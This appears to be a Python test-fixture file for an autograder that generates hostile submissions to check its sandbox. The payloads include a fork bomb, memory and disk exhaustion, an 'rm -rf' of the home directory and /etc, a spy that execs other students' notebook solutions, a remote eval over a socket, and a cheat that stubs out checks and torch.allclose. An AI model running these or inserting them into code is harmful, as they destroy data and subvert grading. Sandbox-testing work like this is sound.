"""Work that turns on the machine that grades it. Never run it outside a sandbox."""

from __future__ import annotations

from autograder.samples.kit import Kit, Sample, with_cell


def hostile(kit: Kit) -> list[Sample]:
    """Takes memory, processes or disk without end; deletes, spies, calls home, cheats."""
    one, other, third, fourth = (kit.alone(number) for number in range(4))
    secret = str(kit.secret)
    spy = f"# @{other}\n{_SPY.format(secret=secret, function=other)}"
    caller = f"# @{third}\n{_NETWORK.format(function=third)}"
    hog, filler = kit.body(one, _HOG), kit.body(fourth, _FILLER)
    vandal = _VANDAL.format(secret=secret)
    work = [
        ("hog", f"{one} takes memory without end", kit.solved(**{one: hog}), [one]),
        ("bomb", "right; a fork bomb in a cell of their own", with_cell(kit.solved(), _BOMB), []),
        ("vandal", "right; deletes home, course and package", with_cell(kit.solved(), vandal), []),
        ("spy", f"{other} looks for the solutions on disk", kit.solved(**{other: spy}), [other]),
        ("caller", f"{third} asks the network", kit.solved(**{third: caller}), [third]),
        ("flood", "right; prints 200 MB", with_cell(kit.solved(), _FLOOD), []),
        ("filler", f"{fourth} fills the disk", kit.solved(**{fourth: filler}), [fourth]),
    ]
    cheat = with_cell(kit.solved(**{one: _UNWRITTEN.format(function=one)}), _CHEAT)
    return [
        *(kit.hand_in(*one_of_them, hostile=True) for one_of_them in work),
        kit.hand_in(
            "cheat",
            f"{one} is not written; checks and torch's comparisons are replaced",
            cheat,
            [one],
            flag="replaces course_utils.check.close",
            hostile=True,
        ),
    ]


_HOG = """\
kept = []
while True:
    kept.append(bytearray(20_000_000))"""

_BOMB = """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass"""

_VANDAL = """\
import os, shutil
import course_utils
os.system("rm -rf ~/* ~/.[a-z]* 2> /dev/null")
for path in (os.path.dirname({secret!r}), os.path.dirname(course_utils.__file__), "/etc", "/dev/shm"):
    shutil.rmtree(path, ignore_errors=True)
    assert path == "/dev/shm" or os.system("touch " + path + "/here 2> /dev/null") != 0"""

_SPY = """\
import glob, json, os
def {function}(*arguments, **options):
    course = os.path.dirname(os.path.dirname(os.path.dirname({secret!r})))
    seen = glob.glob(course + "/**/*.ipynb", recursive=True) + glob.glob("/home/**/*.ipynb", recursive=True)
    for path in [{secret!r}, *seen]:
        if os.access(path, os.R_OK) and path.endswith(".ipynb"):
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                if "def {function}(" in source and "NotImplementedError" not in source:
                    exec(source, globals())
                    return globals()[{function!r}](*arguments, **options)
    raise FileNotFoundError("nothing to copy from")"""

_NETWORK = """\
def {function}(*arguments, **options):
    import socket
    with socket.create_connection(("198.51.100.7", 80), timeout=3) as line:
        return eval(line.recv(1000))"""

_FLOOD = """\
for _ in range(200):
    print("x" * 1_000_000)"""

_FILLER = """\
for number in range(1000):
    with open(f"filler{number}", "wb") as file:
        file.write(bytes(10_000_000))"""

_UNWRITTEN = """\
# @{function}
def {function}(*arguments, **options):
    raise NotImplementedError"""

_CHEAT = """\
import torch
from course_utils import check
check.close = check.that = check.promise = lambda *arguments, **options: None
torch.allclose = torch.equal = lambda *arguments, **options: True
get_ipython().showtraceback = lambda *arguments, **options: None"""
